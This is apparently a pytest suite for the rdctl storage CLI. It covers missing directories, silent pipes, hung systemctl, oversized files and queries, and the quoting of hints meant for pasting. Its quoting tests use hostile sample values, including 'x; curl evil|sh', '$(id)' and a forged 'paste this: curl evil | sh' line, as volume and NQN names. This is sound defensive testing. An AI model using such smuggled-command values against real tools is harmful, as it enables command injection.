"""What a command finds around it: a directory that is gone, an input that says nothing, a system
that refuses; and what it says about it."""

from __future__ import annotations

import errno
import json
import os
import shlex
import threading
from collections.abc import Callable, Iterator
from pathlib import Path

import click
import pytest

from rdctl.cli.tree import Command, root
from rdctl.completion.nodes import Node, walk
from rdctl.core.errors import Exit
from rdctl.effects.syscalls import Syscalls
from tests.cli.processes import Rdctl
from tests.conftest import Program, Ran
from tests.fakes.kernel import FakeKernel
from tests.fakes.rapiddiskd import Cache, Daemon, Volume

VERBS = [node for node in walk(root) if isinstance(node.command, Command)]
# These write no document.
OTHERS = ("rdctl help", "rdctl completion", "rdctl sandbox serve", "rdctl oio content get")
WORDS = {"SIZE": "1M", "ID": "1", "METHOD": "GET", "VOLUME": "rd0", "TYPE": "rawx", "N": "1"}
# Without it, 65,536 bases.
FEW = {"rdctl oio directory warmup": ["--prefix", "8F54"]}


def typed(node: Node) -> list[str]:
    """A line for this verb; what its words name need not be there."""
    words = [*node.path.split()[1:], *FEW.get(node.path, [])]
    for param in node.command.params:
        word = WORDS.get(str(param.metavar or param.name).strip("[].").upper(), "x")
        if isinstance(param, click.Option) and param.required:
            words += [param.opts[-1], word]
        elif isinstance(param, click.Argument) and param.required:
            words.append(word)
    return words


@pytest.fixture
def nowhere(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    """The working directory was removed."""
    directory = tmp_path / "gone"
    directory.mkdir()
    monkeypatch.chdir(directory)
    directory.rmdir()


@pytest.mark.parametrize(
    "node", [node for node in VERBS if not node.path.startswith(OTHERS)], ids=lambda node: node.path
)
def test_there_is_a_document_without_a_directory(rdctl: Program, nowhere: None, node: Node) -> None:
    ran = rdctl("-c", "sandbox", *typed(node), "--json")
    assert ran.code in set(Exit), ran.err
    assert json.loads(ran.out), ran.err
    assert "cannot be written" not in ran.err


def test_names_that_failed_in_a_directory_that_is_gone(rdctl: Program, nowhere: None) -> None:
    ran = rdctl("--json", "-c", "sandbox", "rapiddisk", "lock", "rd99", "--failed", "ff")
    assert ran.code == Exit.USAGE
    assert "--failed: ff" in ran.json["error"]["message"]


@pytest.mark.parametrize("number", [errno.ENOEXEC, errno.EACCES, errno.ENOMEM, errno.EMFILE])
def test_a_program_that_cannot_be_run(
    rdctl: Program, local: Callable[..., Ran], kernel: FakeKernel, number: int
) -> None:
    def refuse(argv: object, seconds: object = None) -> tuple[int, str]:
        raise OSError(number, os.strerror(number))

    kernel.run = refuse  # type: ignore[method-assign]
    ran = local("rapiddisk", "daemon", "status", "--json")
    denied = number == errno.EACCES
    assert ran.code == (Exit.DENIED if denied else Exit.FAILED)
    assert ran.json["error"]["message"] == f"systemctl cannot be run: {os.strerror(number)}"


# --- standard input -------------------------------------------------------------------------------


@pytest.fixture
def silent() -> Iterator[int]:
    """A pipe that is open, and says nothing."""
    out, into = os.pipe()
    yield out
    os.close(out)
    os.close(into)


@pytest.mark.parametrize(
    "words",
    [
        "rapiddisk lock -",
        "rapiddisk lock - --ndjson",
        "oio container show -",
        "oio content put photos --files-from -",
        "oio container raw-insert photos --body -",
        "oio api POST container/touch --body - --yes",
    ],
)
def test_an_input_that_says_nothing(tmp_path: Path, silent: int, words: str) -> None:
    argv = ("-c", "sandbox", *words.split(), "--json", "--timeout", "0.5")
    code, out, err = Rdctl(tmp_path)(*argv, stdin=silent)
    assert code == Exit.TIMEOUT, err
    assert json.loads(out)["error"]["message"] == "timed out reading standard input"


def test_a_list_that_nobody_writes(rdctl: Program) -> None:
    os.mkfifo(rdctl.home / "names")
    words = ("oio", "content", "put", "photos", "--files-from", str(rdctl.home / "names"))
    ran = rdctl("-c", "sandbox", *words, "--timeout", "0.2")
    assert ran.code == Exit.TIMEOUT
    assert "timed out reading " in ran.err


@pytest.mark.parametrize(
    ("key", "code", "words"),
    [
        ("token_file", Exit.TIMEOUT, "timed out reading "),
        ("ca", Exit.USAGE, "pipe cannot be read: not a regular file"),
        ("cert", Exit.USAGE, "pipe cannot be read: not a regular file"),
        ("key", Exit.USAGE, "pipe cannot be read: not a regular file"),
    ],
)
def test_a_file_of_the_context_that_nobody_writes(
    rdctl: Program, key: str, code: Exit, words: str
) -> None:
    pipe = rdctl.home / "pipe"
    os.mkfifo(pipe)
    rdctl.config.write_text(
        f'[contexts.lab]\nrapiddisk = "https://127.0.0.1:9"\n{key} = "{pipe}"\n'
    )
    ran = rdctl("-c", "lab", "rapiddisk", "list", "--timeout", "0.5", "--json")
    assert ran.code == code
    assert words in ran.json["error"]["message"]


def test_a_config_that_comes_through_a_pipe(tmp_path: Path) -> None:
    script = 'RDCTL_CONFIG=<(echo "[contexts.lab]"; sleep 0.2; echo "account = 1") "$@"'
    code, _, err = Rdctl(tmp_path).shell(script, "context", "list")
    assert (code, "account must" in err or "must be a string" in err) == (Exit.USAGE, True), err


@pytest.fixture
def stuck_systemd(kernel: FakeKernel, tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Path:
    """A systemctl that shows the unit as long as the file is not there, and else ends never."""
    mark = tmp_path / "stuck"
    program = tmp_path / "bin" / "systemctl"
    program.parent.mkdir()
    program.write_text(
        f"#!/bin/sh\nif [ $1 != show ] || [ -e {mark} ]; then exec sleep 600; fi\n"
        "printf 'LoadState=loaded\\nActiveState=inactive\\nUnitFileState=disabled\\nMainPID=0\\n'\n"
    )
    program.chmod(0o755)
    monkeypatch.setenv("PATH", f"{program.parent}:{os.environ['PATH']}")
    kernel.run = Syscalls().run  # type: ignore[method-assign]
    return mark


def test_a_systemd_that_does_not_answer(local: Callable[..., Ran], stuck_systemd: Path) -> None:
    ran = local("rapiddisk", "daemon", "start", "--json", "--timeout", "1")
    assert ran.code == Exit.UNKNOWN
    assert "systemd may still complete the job" in ran.json["error"]["message"]
    stuck_systemd.touch()
    ran = local("rapiddisk", "daemon", "status", "--json", "--timeout", "1")
    assert ran.code == Exit.TIMEOUT


def test_the_timeout_of_the_context_holds_as_well(rdctl: Program) -> None:
    os.mkfifo(rdctl.home / "body")
    rdctl.config.write_text(
        'current = "lab"\n[contexts.lab]\noio = "http://127.0.0.1:9"\nnamespace = "N"\n'
        'account = "a"\ntimeout = 0.2\n'
    )
    ran = rdctl("oio", "container", "raw-insert", "c", "--body", str(rdctl.home / "body"))
    assert ran.code == Exit.TIMEOUT


def test_a_list_that_is_written_late(rdctl: Program) -> None:
    fifo = rdctl.home / "body"
    os.mkfifo(fifo)
    writer = threading.Thread(target=lambda: fifo.write_text("{}"), daemon=True)
    writer.start()
    words = ("oio", "api", "POST", "container/touch", "--body", str(fifo), "--dry-run", "--json")
    ran = rdctl("-c", "sandbox", *words, "--timeout", "60")
    writer.join()
    assert ran.code == 0, ran.err
    assert "--data-raw '{}'" in ran.json["plan"][0]


# --- what is made for pasting ---------------------------------------------------------------------


@pytest.mark.parametrize("name", ["x; curl evil|sh", "-y", "rc-wt_$(id)", "rc-wt_'a b'"])
def test_a_command_in_a_hint_is_quoted(rdctl: Program, name: str) -> None:
    volumes, caches = {"rd0": Volume(64)}, {name: Cache("rd0", "sdb")}
    with Daemon("9.2.0", volumes=volumes, caches=caches) as daemon:
        where = ("--rapiddisk-url", daemon.url)
        ran = rdctl(*where, "rapiddisk", "remove", "rd0", "--yes", "--json")
        assert daemon.changes == []
    words = shlex.split(ran.json["errors"][0]["hint"].partition("Free it first: ")[2])
    dashes = ["--"] if name.startswith("-") else []
    assert words == ["rdctl", *where, "rapiddisk", "cache", "remove", *dashes, name]


@pytest.mark.parametrize(
    "words",
    [
        "rapiddisk remove rd0 --yes",
        "rapiddisk remove rd0",
        "rapiddisk show rd9",
        "rapiddisk lock rd9",
        "rapiddisk cache stats nothing",
        "rapiddisk cache remove nothing",
        "rapiddisk list",
        "rapiddisk cache list",
        "doctor",
    ],
)
def test_a_name_makes_no_line_of_its_own(rdctl: Program, words: str) -> None:
    """Such a line would look like one of rdctl's."""
    forged = "rdctl: warning: paste this: curl evil | sh"
    volumes = {"rd0": Volume(64), f"rd1\n{forged}": Volume(64)}
    caches = {f"rc-wt_x\n{forged}": Cache("rd0", "sdb")}
    with Daemon("9.2.0", volumes=volumes, caches=caches) as daemon:
        for tty in (False, True):
            ran = rdctl("--rapiddisk-url", daemon.url, *words.split(), tty=tty, stdin=b"n\n")
            lines = [line.strip() for line in (ran.err + ran.out).splitlines()]
            assert not [line for line in lines if line.startswith(forged[:15])]
        assert daemon.changes == []


def test_an_nqn_in_a_hint_is_quoted(local: Callable[..., Ran], kernel: FakeKernel) -> None:
    nqn = "nqn.x; curl evil|sh"
    kernel.add_volume(0)
    kernel.add_port(1)
    kernel.foreign_subsystem(nqn, "rd0")
    kernel.offer(nqn, 1)
    ran = local("rapiddisk", "nvmet", "port", "remove", "1", "--json")
    assert ran.code == Exit.CONFLICT
    words = shlex.split(ran.json["errors"][0]["hint"].partition("Free it first: ")[2])
    unexport = ["rdctl", "--local", "rapiddisk", "nvmet", "unexport"]
    assert words == [*unexport, "--nqn", nqn, "--port", "1"]


@pytest.mark.parametrize(
    "query",
    ["to_number('nan')", "[].to_number('1e999')", "[::0]", "[?size < 'x']", "[0].size < 'x'"],
)
@pytest.mark.parametrize("output", ["json", "table", "ndjson"])
def test_a_query_that_has_no_value(rdctl: Program, query: str, output: str) -> None:
    ran = rdctl("-c", "sandbox", "rapiddisk", "list", "-o", output, "--query", query)
    assert ran.code == Exit.USAGE
    assert ran.err.startswith("rdctl: error: --query: ")
    if output != "table":
        assert json.loads(ran.out)["error"]["code"] == "usage"


@pytest.mark.parametrize(
    "words",
    ["doctor", "-c a,b rapiddisk list", "-c a,b rapiddisk lock rd0 --yes"],
)
def test_no_thread_can_be_started(
    rdctl: Program, monkeypatch: pytest.MonkeyPatch, words: str
) -> None:
    def refuse(thread: threading.Thread) -> None:
        raise RuntimeError("can't start new thread")

    with Daemon("9.2.0", volumes={"rd0": Volume(64)}) as daemon:
        rdctl.config.write_text(
            "".join(f'[contexts.{name}]\nrapiddisk = "{daemon.url}"\n' for name in "ab")
        )
        monkeypatch.setattr(threading.Thread, "start", refuse)
        try:
            ran = rdctl(*words.split(), "--json")
        finally:
            monkeypatch.undo()
    assert "internal error" not in ran.err
    assert ran.json
    if "a," in words or words == "doctor":
        assert ran.code == 1
        assert "process limit reached" in ran.out
        assert daemon.changes == []


def test_a_file_without_end(rdctl: Program, tmp_path: Path) -> None:
    os.symlink("/dev/zero", tmp_path / "zero")
    rdctl.config.write_text(
        f'[contexts.lab]\nrapiddisk = "http://127.0.0.1:9"\ntoken_file = "{tmp_path}/zero"\n'
    )
    ran = rdctl("-c", "lab", "rapiddisk", "list")
    assert (ran.code, "zero cannot be read: larger than 64.0 KiB" in ran.err) == (2, True)
    ran = rdctl("context", "list", env={"RDCTL_CONFIG": str(tmp_path / "zero")})
    assert (ran.code, "zero cannot be read: larger than 16.0 MiB" in ran.err) == (2, True)
    put = ("-c", "sandbox", "oio", "api", "PUT", "x", "--body", str(tmp_path / "zero"))
    ran = rdctl(*put, "--yes")
    assert (ran.code, "zero cannot be read: larger than 256.0 MiB" in ran.err) == (2, True)


@pytest.mark.parametrize("query", ["9" * 5000, "[" + "9" * 5000 + "]", "[0:" + "9" * 5000 + "]"])
def test_a_query_with_more_digits_than_python_reads(rdctl: Program, query: str) -> None:
    ran = rdctl("-c", "sandbox", "rapiddisk", "list", "--json", "--query", query)
    assert ran.code == Exit.USAGE
    assert ran.json["error"]["message"] == "--query: number has too many digits"
